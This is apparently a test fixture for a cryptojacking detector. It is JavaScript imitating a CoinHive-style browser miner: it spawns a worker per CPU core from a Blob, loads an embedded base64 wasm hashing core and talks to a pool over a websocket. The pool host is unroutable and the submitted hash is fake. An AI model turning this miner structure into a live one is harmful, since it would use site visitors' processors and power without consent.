// A browser miner in the shape of the 2017-2024 loaders (see the field notes): a websocket to a
// pool proxy speaking the CoinHive-style protocol, N workers started from a Blob, each running
// a CryptoNight-shaped wasm core embedded as base64. Written for minewatch's detector tests:
// the pool address is unroutable (.invalid) and the core only hashes.
(function (global) {
  var WASM = "AGFzbQEAAAABGQRgAX8AYAJ/fwBgBH9/f38AYAV/fn5+fgADBQQAAQIDBQMBADEGGQN/AUGAgMAAC38AQYCFwAELfwBBgIXAAQsHLwQGbWVtb3J5AgAHY25faGFzaAACCl9fZGF0YV9lbmQDAQtfX2hlYXBfYmFzZQMCCoQdBJcKBBh+AX8EfgJ/IAApAyAhASAAKQMYIQIgACkDOCEDIAApAxAhBCAAKQMwIQUgACkDKCEGIAApA8ABIQcgACkDmAEhCCAAKQNwIQkgACkDSCEKIAApA7gBIQsgACkDkAEhDCAAKQNoIQ0gACkDQCEOIAApA7ABIQ8gACkDiAEhECAAKQNgIREgACkDqAEhEiAAKQOAASETIAApA1ghFCAAKQOgASEVIAApA3ghFiAAKQNQIRcgACkDACEYQQAhGQNAIAAgEiAFhSAThSAUhSAAKQMIIhqFIhtCAYkgByABhSAIhSAJhSAKhSIchSIdIBWFNwOgASAAIB0gFoU3A3ggACAdIBeFNwNQIAAgHSAGhTcDKCAAIB0gGIU3AwAgACAVIAaFIBaFIBeFIBiFIgYgBCADhSAPhSAQhSARhSIVQgGJhSIdIBKFNwOoASAAIB0gE4U3A4ABIAAgHSAUhTcDWCAAIB0gBYU3AzAgACAdIBqFIh03AwggACAbIAsgAoUgDIUgDYUgDoUiBUIBiYUiEiAPhTcDsAEgACASIBCFNwOIASAAIBIgEYU3A2AgACASIAOFNwM4IAAgEiAEhTcDECAAIBUgHEIBiYUiEiALhTcDuAEgACASIAyFNwOQASAAIBIgDYU3A2ggACASIA6FNwNAIAAgEiAChTcDGCAAIAZCAYkgBYUiEiAHhTcDwAEgACASIAiFNwOYASAAIBIgCYU3A3AgACASIAqFNwNIIAAgEiABhTcDIEGgfyEeA0AgACAeQaCEwIAAaigCAEEDdGoiHykDACESIB8gHSAeQYCFwIAAajUCAIk3AwAgACAeQaSEwIAAaigCAEEDdGoiHykDACEdIB8gEiAeQYSFwIAAajUCAIk3AwAgHkEIaiIeDQALIAAgACkDICIdIAApAwgiGCAAKQMAIhpCf4WDhSIBNwMgIAAgGiAdQn+FgyAAKQMYIhKFIgI3AxggACAdIBJCf4WDIAApAxAiG4UiBDcDECAAIBggEiAbQn+Fg4U3AwggACAAKQM4Ih0gACkDMCISQn+FgyAAKQMoIgeFIgY3AyggACASIAApA0AiCCAdQn+Fg4UiBTcDMCAAIB0gACkDSCIJIAhCf4WDhSIDNwM4IAAgCCAHIAlCf4WDhSIONwNAIAAgCSASIAdCf4WDhSIKNwNIIAApA2AhHSAAKQNoIRIgACAAKQNwIgcgACkDWCIIIAApA1AiC0J/hYOFIgk3A3AgACASIAsgB0J/hYOFIg03A2ggACAdIAcgEkJ/hYOFIhE3A2AgACAIIBIgHUJ/hYOFIhQ3A1ggACALIB0gCEJ/hYOFIhc3A1AgACkDiAEhHSAAKQOQASESIAAgACkDmAEiByAAKQOAASILIAApA3giD0J/hYOFIgg3A5gBIAAgEiAPIAdCf4WDhSIMNwOQASAAIB0gByASQn+Fg4UiEDcDiAEgACALIBIgHUJ/hYOFIhM3A4ABIAAgDyAdIAtCf4WDhSIWNwN4IAApA7ABIR0gACkDuAEhEiAAIAApA8ABIg8gACkDqAEiFSAAKQOgASIcQn+Fg4UiBzcDwAEgACASIBwgD0J/hYOFIgs3A7gBIAAgHSAPIBJCf4WDhSIPNwOwASAAIBUgEiAdQn+Fg4UiEjcDqAEgACAcIB0gFUJ/hYOFIhU3A6ABIAAgGiAbIBhCf4WDIBkpA4CCwIAAhYUiGDcDACAZQQhqIhlBwAFHDQALC+wGARV/IAAtAAshAiAALQAMIQMgAC0ABiEEIAAtAAEhBSABLQAAIQYgAC0AByEHIAAtAAghCCAALQACIQkgAC0ADSEKIAAtAAMhCyAALQAEIQwgAC0ADiENIAAtAAkhDiAAIAAtAA8tAICAwIAAIg8gAC0ACi0AgIDAgAAiEHMiESAQIAAtAAUtAICAwIAAIhJzIhNBAXQgE8BBB3ZBG3FzIAEtAAFzIAAtAAAtAICAwIAAIhNzczoAASAAIAstAICAwIAAIhQgDS0AgIDAgAAiDXMiFSANIA4tAICAwIAAIgtzIg5BAXQgDsBBB3ZBG3FzIAEtAAVzIAwtAICAwIAAIgxzczoABSAAIActAICAwIAAIg4gCS0AgIDAgAAiCXMiFiAJIAotAICAwIAAIgdzIgpBAXQgCsBBB3ZBG3FzIAEtAAlzIAgtAICAwIAAIghzczoACSAAIA8gECASIAYgEiATcyIKQQF0IArAQQd2QRtxc3Nzc3M6AAAgACAPIBIgEyARQQF0IBHAQQd2QRtxcyABLQACc3NzczoAAiAAIBAgEiATIA8gE3MiD0EBdCAPwEEHdkEbcXMgAS0AA3Nzc3M6AAMgACAUIA0gCyALIAxzIhJBAXQgEsBBB3ZBG3FzIAEtAARzc3NzOgAEIAAgFCALIAwgFUEBdCAVwEEHdkEbcXMgAS0ABnNzc3M6AAYgACANIAsgDCAUIAxzIhJBAXQgEsBBB3ZBG3FzIAEtAAdzc3NzOgAHIAAgDiAJIAcgByAIcyISQQF0IBLAQQd2QRtxcyABLQAIc3NzczoACCAAIAItAICAwIAAIgsgBC0AgIDAgAAiDHMiDyAMIAUtAICAwIAAIhJzIhNBAXQgE8BBB3ZBG3FzIAEtAA1zIAMtAICAwIAAIhNzczoADSAAIA4gByAIIBZBAXQgFsBBB3ZBG3FzIAEtAApzc3NzOgAKIAAgCSAHIAggDiAIcyIQQQF0IBDAQQd2QRtxcyABLQALc3NzczoACyAAIAsgDCASIBIgE3MiB0EBdCAHwEEHdkEbcXMgAS0ADHNzc3M6AAwgACALIBIgEyAPQQF0IA/AQQd2QRtxcyABLQAOc3NzczoADiAAIAwgEiATIAsgE3MiC0EBdCALwEEHdkEbcXMgAS0AD3Nzc3M6AA8LiwsDBn8GfgZ/I4CAgIAAQaACayIEJICAgIAAQQAhBSAEQRhqQQBByAH8CwAgACABaiEGQQAhBwJAA0AgASAHRg0BIARBGGogB0F4cWoiCCAAMQAAIAVBMHEiCa2GIAgpAwCFNwMAIABBAWogBkYNASAIIAAxAAEgCUEIcq2GIAgpAwCFNwMAIAVBEGohBSAAQQJqIQAgB0ECaiIHQYgBRw0ACwtCgICAgICAgIABIQpBECEAAkAgAUGHAUsNACABQQN2IQBCASABQQN0rYYhCgsgBEEYaiAAQQN0aiIAIAApAwAgCoU3AwAgBCAEKQOYAUKAgICAgICAgIB/hTcDmAEgBEEYahCAgICAACAEIAQpAxgiCzwA4AEgBCAEKQMoIgo8APABIAQgC0IIiDwA4QEgBCAKQgiIPADxASAEIAtCEIg8AOIBIAQgCkIQiDwA8gEgBCALQhiIPADjASAEIApCGIg8APMBIAQgC0IgiDwA5AEgBCAKQiCIPAD0ASAEIAtCKIg8AOUBIAQgCkIoiDwA9QEgBCALQjCIPADmASAEIApCMIg8APYBIAQgC0I4iDwA5wEgBCAKQjiIPAD3ASAEIAQpAyAiDDwA6AEgBCAEKQMwIgo8APgBIAQgDEIIiDwA6QEgBCAKQgiIPAD5ASAEIAxCEIg8AOoBIAQgCkIQiDwA+gEgBCAMQhiIPADrASAEIApCGIg8APsBIAQgDEIgiDwA7AEgBCAKQiCIPAD8ASAEIAxCKIg8AO0BIAQgCkIoiDwA/QEgBCAMQjCIPADuASAEIApCMIg8AP4BIAQgDEI4iDwA7wEgBCAKQjiIPAD/AUGAgIB/IQADQCAEQfABaiAEQeABahCBgICAACAAQYiFwIEAaiAEKQD4ATcAACAAQYCFwIEAaiAEKQDwATcAACAAQRBqIgANAAsgBCkDUCAEKQNAhSEKIAQpA0ggBCkDOIUhDQJAAkAgAw0AIAohDgwBCyAEKQNYIQ8DQCAEIA0iDqdB8P//AHEiACkAiIXAgAA3A4gCIAQgACkAgIXAgAA3A4ACIAQgDjcDkAIgBCAKNwOYAiAEQYACaiAEQZACahCBgICAACAAIAQtAIACIgcgCqciCHM6AICFwIAAIAAgBC0AgQIiBSAKQgiIpyIJczoAgYXAgAAgACAELQCCAiIBIApCEIinIgZzOgCChcCAACAAIAQtAIMCIhAgCkIYiKciEXM6AIOFwIAAIAAgBC0AhAIgCkIgiKciEnM6AISFwIAAIAAgBC0AhQIgCkIoiKciE3M6AIWFwIAAIAAgBC0AhgIgCkIwiKciFHM6AIaFwIAAIAAgBC0AhwIgCkI4iKciFXM6AIeFwIAAIAAgBC0AiAIgCHM6AIiFwIAAIAAgBC0AiQIgCXM6AImFwIAAIAAgBC0AigIgBnM6AIqFwIAAIAAgBC0AiwIgEXM6AIuFwIAAIAAgBC0AjAIgEnM6AIyFwIAAIAAgBC0AjQIgE3M6AI2FwIAAIAAgBC0AjgIgFHM6AI6FwIAAIAAgBC0AjwIgFXM6AI+FwIAAIAQgBa1C/wGDQgiGIAetQv8Bg4QgAa1C/wGDQhCGhCIKp0Hw//8AcSkAgIXAgAAiDUIAIBCtQv8Bg0IYhiAENQKEAkIghoQgCoRCABCDgICAACANIA4gBCkDCHyFIQ0gDyAEKQMAhSEPIA4hCiADQX9qIgMNAAsgBCAPNwNYCyAEIA4gDIU3AyAgBCANIAuFNwMYIARBGGoQgICAgABBACEAQQghBwNAIAIgAGoiA0EBaiAEQRhqIABBeHFqKQMAIgogB0E4ca2IPAAAIAMgCiAHQXhqQTBxrYg8AAAgB0EQaiEHIABBAmoiAEEgRw0ACyAEQaACaiSAgICAAAtuAQZ+IAAgA0L/////D4MiBSABQv////8PgyIGfiIHIANCIIgiCCAGfiIGIAUgAUIgiCIJfnwiBUIghnwiCjcDACAAIAggCX4gBSAGVK1CIIYgBUIgiIR8IAogB1StfCAEIAF+IAMgAn58fDcDCAsLigUBAEGAgMAAC4AFY3x3e/Jrb8UwAWcr/terdsqCyX36WUfwrdSir5ykcsC3/ZMmNj/3zDSl5fFx2DEVBMcjwxiWBZoHEoDi6yeydQmDLBobblqgUjvWsynjL4RT0QDtIPyxW2rLvjlKTFjP0O+q+0NNM4VF+QJ/UDyfqFGjQI+SnTj1vLbaIRD/89LNDBPsX5dEF8Snfj1kXRlzYIFP3CIqkIhG7rgU3l4L2+AyOgpJBiRcwtOsYpGV5HnnyDdtjdVOqWxW9Opleq4IunglLhymtMbo3XQfS72LinA+tWZIA/YOYTVXuYbBHZ7h+JgRadmOlJseh+nOVSjfjKGJDb/mQmhBmS0PsFS7FgEAAAAAAAAAgoAAAAAAAACKgAAAAAAAgACAAIAAAACAi4AAAAAAAAABAACAAAAAAIGAAIAAAACACYAAAAAAAICKAAAAAAAAAIgAAAAAAAAACYAAgAAAAAAKAACAAAAAAIuAAIAAAAAAiwAAAAAAAICJgAAAAAAAgAOAAAAAAACAAoAAAAAAAICAAAAAAAAAgAqAAAAAAAAACgAAgAAAAICBgACAAAAAgICAAAAAAACAAQAAgAAAAAAIgACAAAAAgAoAAAAHAAAACwAAABEAAAASAAAAAwAAAAUAAAAQAAAACAAAABUAAAAYAAAABAAAAA8AAAAXAAAAEwAAAA0AAAAMAAAAAgAAABQAAAAOAAAAFgAAAAkAAAAGAAAAAQAAAAEAAAADAAAABgAAAAoAAAAPAAAAFQAAABwAAAAkAAAALQAAADcAAAACAAAADgAAABsAAAApAAAAOAAAAAgAAAAZAAAAKwAAAD4AAAASAAAAJwAAAD0AAAAUAAAALAAAAA==";
  var POOL = "wss://pool.invalid:443/proxy";

  var workerSource = [
    "var core = null;",
    "onmessage = function (e) {",
    "  var msg = e.data;",
    "  if (msg.type === 'init') {",
    "    var bytes = Uint8Array.from(atob(msg.wasm), function (c) { return c.charCodeAt(0); });",
    "    WebAssembly.instantiate(bytes, {}).then(function (r) { core = r.instance.exports; postMessage({type: 'ready'}); });",
    "  } else if (msg.type === 'job' && core) {",
    "    var found = 0;",
    "    for (var nonce = msg.start; nonce < msg.start + msg.count; nonce++) {",
    "      core.cn_hash(0, 76, 128, 1024);",
    "      found++;",
    "    }",
    "    postMessage({type: 'hashes', hashes: found, job_id: msg.job_id, nonce: nonce, result: 'deadbeef'});",
    "  }",
    "};"
  ].join("\n");

  function Miner(siteKey, options) {
    this._siteKey = siteKey;
    this._threads = (options && options.threads) || navigator.hardwareConcurrency || 4;
    this._throttle = (options && options.throttle) || 0;
    this._workers = [];
    this._totalHashes = 0;
    this._started = 0;
    this._socket = null;
    this._job = null;
  }

  Miner.prototype.start = function () {
    var self = this;
    var url = URL.createObjectURL(new Blob([workerSource], {type: "application/javascript"}));
    for (var i = 0; i < this._threads; i++) {
      var w = new Worker(url);
      w.onmessage = function (e) { self._onWorker(e.data); };
      w.postMessage({type: "init", wasm: WASM});
      this._workers.push(w);
    }
    this._started = Date.now();
    this._socket = new WebSocket(POOL);
    this._socket.onopen = function () {
      self._send({type: "auth", params: {site_key: self._siteKey, type: "anonymous", user: null}});
    };
    this._socket.onmessage = function (ev) { self._onPool(JSON.parse(ev.data)); };
  };

  Miner.prototype._send = function (msg) { this._socket.send(JSON.stringify(msg)); };

  Miner.prototype._onPool = function (msg) {
    if (msg.type === "authed") {
      this._token = msg.params.token;
    } else if (msg.type === "job") {
      this._job = {job_id: msg.params.job_id, blob: msg.params.blob, target: msg.params.target};
      for (var i = 0; i < this._workers.length; i++) {
        this._workers[i].postMessage({type: "job", job_id: this._job.job_id, blob: this._job.blob, start: i * 1000, count: 1000});
      }
    } else if (msg.type === "hash_accepted") {
      this._accepted = msg.params.hashes;
    }
  };

  Miner.prototype._onWorker = function (data) {
    if (data.type === "hashes") {
      this._totalHashes += data.hashes;
      this._send({type: "submit", params: {job_id: data.job_id, nonce: data.nonce, result: data.result}});
    }
  };

  Miner.prototype.setThrottle = function (t) { this._throttle = t; };
  Miner.prototype.setNumThreads = function (n) { this._threads = n; };
  Miner.prototype.getHashesPerSecond = function () {
    return this._totalHashes / ((Date.now() - this._started) / 1000);
  };
  Miner.prototype.isRunning = function () { return this._socket !== null; };
  Miner.prototype.stop = function () {
    this._workers.forEach(function (w) { w.terminate(); });
    if (this._socket) { this._socket.close(); this._socket = null; }
  };

  global.PageMiner = Miner;
})(typeof window !== "undefined" ? window : this);
